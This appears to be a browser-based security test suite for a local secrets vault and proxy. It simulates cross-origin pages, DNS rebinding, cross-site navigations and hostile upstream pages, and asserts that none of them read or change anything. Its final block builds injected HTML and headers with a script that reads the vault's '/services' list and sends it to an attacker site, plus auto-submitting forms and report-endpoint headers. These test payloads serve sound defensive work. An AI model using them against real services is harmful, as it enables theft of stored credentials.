import { existsSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { PASSWORD, startServer, temporaryDirectory, type RunningServer } from "../live/processes.js";
import { startUpstream, type Upstream } from "../live/tls-upstream.js";
import { addService, call, makeToken, unlock } from "../live/vault-calls.js";
import { startChromium } from "./chromium.js";
import {
  startHostileSite,
  startNaiveServer,
  startReboundAddress,
  type HostileSite,
  type ReboundAddress,
} from "./hostile-site.js";

/*
 * Web pages in a real browser against a running vault: from another site, from another port of the same host, without
 * an origin, from a name that leads to the vault all of a sudden, and from the vault's own origin.
 */

const SECRET = "k3y-0123456789abcdefABCDEF";
const REBOUND_NAME = "rebound.test";
const WRONG = "wrong password";

let browser: Browser;
let upstream: Upstream;
let server: RunningServer;
let admin: string;
let token: string;
let dataDir: { path: string; remove: () => Promise<void> };
/** Three places of one attacker; the vault is on 127.0.0.1. */
let sites: { foreign: HostileSite; neighbour: HostileSite };
let rebound: ReboundAddress;
let answer: (target: string) => { type: string; headers?: Record<string, string>; body: string };

beforeAll(async () => {
  dataDir = await temporaryDirectory();
  upstream = await startUpstream(undefined, (request, response) => {
    const { type, headers = {}, body } = answer(request.url ?? "");
    response.writeHead(200, { ...headers, "Content-Type": type }).end(body);
  });
  server = await startServer({ dataDir: dataDir.path, flags: ["--log-level", "debug"] });
  admin = await unlock(server);
  token = await makeToken(server, admin);
  await addService(server, admin, {
    name: "query",
    base_url: upstream.origin,
    allow_private: true,
    auth: { type: "query", params: { key: SECRET } },
  });
  sites = { foreign: await startHostileSite("127.0.0.2"), neighbour: await startHostileSite("127.0.0.1") };
  rebound = await startReboundAddress("127.0.0.3");
  // The engine alone crashed once in these attacks; and what the browser around it may do for a page counts here too.
  browser = await startChromium({ [REBOUND_NAME]: "127.0.0.3" }, "whole");
});

afterAll(async () => {
  await browser.close();
  await rebound.close();
  await sites.foreign.close();
  await sites.neighbour.close();
  await server.stop();
  await upstream.close();
  await dataDir.remove();
});

beforeEach(() => {
  answer = () => ({ type: "application/json", body: '{"ok":true}' });
  upstream.requests.length = 0;
  sites.foreign.requests.length = 0;
});

/** All that an attack could change, as the owner sees it. */
async function state(): Promise<unknown> {
  const read = async (path: string): Promise<unknown> =>
    (await call(server.address, "GET", path, { token: admin })).json;
  return {
    // Without a token: an admin is told of memory and time as well.
    health: (await call(server.address, "GET", "/health")).json,
    services: await read("/services"),
    // Reading all this uses the owner's own token.
    tokens: ((await read("/tokens")) as { scope: string }[]).map((listed) =>
      listed.scope === "admin" ? { ...listed, last_used_at: "" } : listed,
    ),
    files: await read("/files"),
    lockOut: existsSync(join(dataDir.path, "lockout.json")),
  };
}

/** Nothing came of what `attack` did: not for the vault, not for its upstream, not for its owner. */
async function withoutEffect<T>(attack: () => Promise<T>): Promise<T> {
  const before = await state();
  const logged = server.log().length;
  const outcome = await attack();
  // At once: a wrong password within the last second would make the owner wait.
  const owner = await call(server.address, "POST", "/auth/unlock", {
    body: JSON.stringify({ password: PASSWORD }),
  });
  expect(owner.status).toBe(200);
  await call(server.address, "DELETE", `/tokens/${(owner.json as { id: string }).id}`, { token: admin });
  expect(await state()).toEqual(before);
  expect(upstream.requests).toEqual([]);
  const lines = server.log().slice(logged);
  expect(lines).not.toMatch(/wrong password|unlock(?:ing)? failed|proxied/i);
  return outcome;
}

interface Hostile {
  readonly page: Page;
  readonly frame: Page | Frame;
  /** Where the page comes from. */
  readonly origin: string;
  /** Where it takes the vault to be. */
  readonly vault: string;
}

async function attackAll(
  from: Hostile,
  withToken: boolean,
  { passwords = [WRONG, PASSWORD], patienceMs = 400 } = {},
): Promise<Record<string, string[]>> {
  const aim = { vault: from.vault, page: from.origin, token: withToken ? token : "", passwords, patienceMs };
  return from.frame.evaluate<Record<string, string[]>>(`attackAll(${JSON.stringify(aim)})`);
}

async function openAt(origin: string, path = "/"): Promise<Page> {
  const page = await (await browser.newContext()).newPage();
  await page.goto(`${origin}${path}`, { waitUntil: "load" });
  return page;
}

const portOfVault = (): number => Number(new URL(server.address).port);

const ORIGINS: Record<string, () => Promise<Hostile>> = {
  "another site": () => fromSite(`http://127.0.0.2:${sites.foreign.port}`, server.address),
  "another port of the vault's host": () =>
    fromSite(`http://127.0.0.1:${sites.neighbour.port}`, server.address),
  "a subdomain of localhost": () =>
    fromSite(`http://evil.localhost:${sites.neighbour.port}`, `http://localhost:${portOfVault()}`),
  "an opaque origin": async () => {
    const origin = `http://127.0.0.1:${sites.neighbour.port}`;
    const page = await openAt(origin, "/sandboxed");
    const frame = page.frame("opaque");
    if (frame === null) throw new Error("the sandboxed frame is missing");
    return { page, frame, origin, vault: server.address };
  },
};

async function fromSite(origin: string, vault: string): Promise<Hostile> {
  const page = await openAt(origin);
  return { page, frame: page, origin, vault };
}

async function close({ page }: Hostile): Promise<void> {
  await page.context().close();
}

test("every attack arrives at a server without a guard, and what it answers is read", async () => {
  const naive = await startNaiveServer();
  const from = await fromSite(`http://127.0.0.2:${sites.foreign.port}`, naive.origin);
  const outcomes = await attackAll(from, true, { patienceMs: 2_000 });
  expect(outcomes).toMatchObject({
    fetch: expect.arrayContaining(["200 read"]) as unknown,
    "fetch-json": {},
    xhr: {},
  });
  const names = await from.page.evaluate("attackNames");
  expect([...naive.attacks].sort()).toEqual((names as string[]).sort());
  await close(from);
  await naive.close();
});

describe.each(Object.keys(ORIGINS))("a page of %s", (title) => {
  test("reads nothing and changes nothing, with a valid token or without", async () => {
    const from = await ORIGINS[title]!();
    const both = () => Promise.all([attackAll(from, false), attackAll(from, true)]);
    expect(await withoutEffect(both)).toEqual([{}, {}]);
    await close(from);
  });

  test("has no worker run what the vault answers", async () => {
    answer = () => ({ type: "text/javascript", body: "postMessage('ran')" });
    const from = await ORIGINS[title]!();
    const aim = { vault: from.vault, page: from.origin, token, passwords: [] };
    const outcomes = await from.frame.evaluate(`registerAll(${JSON.stringify(aim)})`);
    expect(outcomes).toEqual({ "service-worker": "refused", worker: "refused", "shared-worker": "refused" });
    expect(upstream.requests).toEqual([]);
    await close(from);
  });
});

describe("a page whose name leads to the vault all of a sudden", () => {
  async function rebind(): Promise<Hostile> {
    rebound.leadTo(sites.foreign.port, "127.0.0.2");
    const origin = `http://${REBOUND_NAME}:${rebound.port}`;
    const from = await fromSite(origin, origin);
    rebound.leadTo(portOfVault());
    return from;
  }

  test("reads refusals and nothing else, with a valid token or without", async () => {
    const from = await rebind();
    const outcomes = await withoutEffect(() => Promise.all([attackAll(from, false), attackAll(from, true)]));
    const read = outcomes.flatMap((outcome) => Object.values(outcome).flat());
    // The browser takes the vault for the page's own origin, and so lets it read.
    expect(outcomes).toMatchObject([{ fetch: {} }, { fetch: {} }]);
    const refusal =
      /^(?:403 )?(?:\{"error":"this Host is not served here; see --allowed-hosts","code":"forbidden"\})?$/;
    expect(read.filter((text) => !refusal.test(text))).toEqual([]);
    await close(from);
  });
});

describe("a locked vault", () => {
  let directory: { path: string; remove: () => Promise<void> };
  let locked: RunningServer;

  beforeAll(async () => {
    directory = await temporaryDirectory();
    locked = await startServer({ dataDir: directory.path });
    const token = await unlock(locked);
    expect((await call(locked.address, "POST", "/auth/lock", { token })).status).toBe(200);
  });

  afterAll(async () => {
    await locked.stop();
    await directory.remove();
  });

  test.each(["another site", "another port of the vault's host"])(
    "is not unlocked by a page of %s that knows the password",
    async (title) => {
      const opened = await ORIGINS[title]!();
      const from = { ...opened, vault: opened.vault.replace(/\d+$/, new URL(locked.address).port) };
      expect(await attackAll(from, true, { passwords: [PASSWORD] })).toEqual({});
      expect((await call(locked.address, "GET", "/health")).json).toMatchObject({ status: "locked" });
      await close(from);
    },
  );
});

describe("a navigation", () => {
  async function navigate(
    path: string,
    how: (page: Page, url: string) => Promise<unknown>,
  ): Promise<{ status: number; vaultError: string | undefined }> {
    const page = await openAt(`http://127.0.0.2:${sites.foreign.port}`);
    const url = `${server.address}${path}`;
    const answered = page.context().waitForEvent("response", (response) => response.url() === url);
    await how(page, url);
    const response = await answered;
    const outcome = { status: response.status(), vaultError: response.headers()["x-vault-error"] };
    await page.context().close();
    return outcome;
  }
  const ways: Record<string, (page: Page, url: string) => Promise<unknown>> = {
    "a new window": (page, url) => page.evaluate(`void window.open(${JSON.stringify(url)})`),
    "a link without referrer": async (page, url) => {
      await page.setContent(`<a href="${url}" rel="noreferrer noopener">x</a>`);
      await page.dispatchEvent("a", "click");
    },
    "the same window": (page, url) => page.evaluate(`void (window.location = ${JSON.stringify(url)})`),
    "a redirect": (page, url) => {
      const through = `/redirect?status=302&to=${encodeURIComponent(url)}`;
      return page.evaluate(`void (window.location = ${JSON.stringify(through)})`);
    },
  };

  test.each(Object.keys(ways))("from a page to a call, in %s, is refused", async (way) => {
    const outcome = await navigate(`/proxy/query/x?key=${token}`, ways[way]!);
    expect(outcome).toEqual({ status: 403, vaultError: "forbidden" });
    expect(upstream.requests).toEqual([]);
  });

  test.each(Object.keys(ways))(
    "from a provider's page to the OAuth callback, in %s, is not refused",
    async (way) => {
      const { status } = await navigate("/auth/oauth2/callback?code=x&state=y", ways[way]!);
      expect(status).not.toBe(403);
    },
  );

  test("to the OAuth callback in a frame is refused", async () => {
    const page = await openAt(`http://127.0.0.2:${sites.foreign.port}`);
    const url = `${server.address}/auth/oauth2/callback?code=x&state=y`;
    const answered = page.waitForResponse(url);
    await page.setContent(`<iframe src="${url}"></iframe>`);
    expect((await answered).status()).toBe(403);
    await page.context().close();
  });
});

describe("a page that an upstream answers, opened on the vault's own origin", () => {
  const script = (): string => `
    fetch("http://127.0.0.2:${sites.foreign.port}/ran");
    fetch("/services").then(async (r) => fetch("http://127.0.0.2:${sites.foreign.port}/read?" + await r.text()));
    fetch("/proxy/query/second?key=${token}");
    navigator.serviceWorker?.register("/proxy/query/worker.js?key=${token}", { scope: "/" });`;
  const markup = (): string => {
    const evil = `http://127.0.0.2:${sites.foreign.port}`;
    const own = `/proxy/query/second?key=${token}`;
    return `<title>page</title><meta http-equiv="refresh" content="0; url=${own}"/>
      <base href="${evil}/"/><script>${script()}</script><script src="${own}"></script>
      <script type="module" src="${evil}/script.mjs"></script><link rel="stylesheet" href="${evil}/style.css"/>
      <link rel="prefetch" href="${evil}/prefetch"/><link rel="preload" as="image" href="${evil}/preload"/>
      <link rel="icon" href="${evil}/icon.png"/><link rel="manifest" href="${evil}/manifest"/>
      <style>body { background: url(${evil}/background) }</style><img src="${evil}/image" onerror="fetch('/services')"/>
      <iframe src="${own}"></iframe><iframe srcdoc="&lt;script>parent.fetch('/services')&lt;/script>"></iframe>
      <object data="${own}"></object><embed src="${own}"/><video src="${evil}/video" autoplay="autoplay"></video>
      <form id="f" action="${own}" method="POST"><input name="a"/></form><svg onload="document.forms[0].submit()"></svg>
      <input autofocus="autofocus" onfocus="document.forms[0].submit()"/><a href="javascript:fetch('/services')">link</a>`;
  };
  const pages: Record<string, () => { type: string; body: string }> = {
    "text/html": () => ({ type: "text/html", body: `<!doctype html>${markup()}` }),
    "application/xhtml+xml": () => ({
      type: "application/xhtml+xml",
      body: `<html xmlns="http://www.w3.org/1999/xhtml"><head></head><body><script>//<![CDATA[\n${script()}\n//]]></script></body></html>`,
    }),
    "image/svg+xml": () => ({
      type: "image/svg+xml",
      body: `<svg xmlns="http://www.w3.org/2000/svg"><script>//<![CDATA[\n${script()}\n//]]></script></svg>`,
    }),
    "text/plain that looks like HTML": () => ({ type: "text/plain", body: `<!doctype html>${markup()}` }),
    "no type known": () => ({ type: "", body: `<!doctype html>${markup()}` }),
  };
  const headers = (): Record<string, string> => {
    const evil = `http://127.0.0.2:${sites.foreign.port}`;
    return {
      "Content-Security-Policy": "default-src * 'unsafe-inline' 'unsafe-eval'",
      "Content-Security-Policy-Report-Only": `default-src 'none'; report-uri ${evil}/csp`,
      "Report-To": JSON.stringify({
        group: "default",
        max_age: 1,
        endpoints: [{ url: `${evil}/report-to` }],
      }),
      "Reporting-Endpoints": `default="${evil}/reports"`,
      NEL: '{"report_to":"default","max_age":1,"success_fraction":1}',
      Refresh: `0; url=/proxy/query/second?key=${token}`,
      Link: `<${evil}/linked>; rel=preload; as=image, <${evil}/fetched>; rel=prefetch, <${evil}/css>; rel=stylesheet`,
      "Speculation-Rules": `"${evil}/rules?url=${encodeURIComponent(`${server.address}/proxy/query/second?key=${token}`)}"`,
      "Referrer-Policy": "unsafe-url",
      "Service-Worker-Allowed": "/",
      "Access-Control-Allow-Origin": "*",
      "Set-Cookie": "a=b; Path=/",
    };
  };

  test.each(Object.keys(pages))("as %s runs nothing, loads nothing and tells nobody", async (kind) => {
    answer = () => ({ ...pages[kind]!(), headers: headers() });
    const page = await (await browser.newContext()).newPage();
    const opened = await page.goto(`${server.address}/proxy/query/page?key=${token}`).catch(() => null);
    await page.waitForTimeout(500);
    expect(opened?.status()).toBe(200);
    expect(upstream.requests.map(({ target }) => target)).toEqual([`/page?key=${SECRET}`]);
    expect(sites.foreign.requests).toEqual([]);
    expect(await page.context().cookies()).toEqual([]);
    expect(page.context().serviceWorkers()).toEqual([]);
    await page.context().close();
  });
});
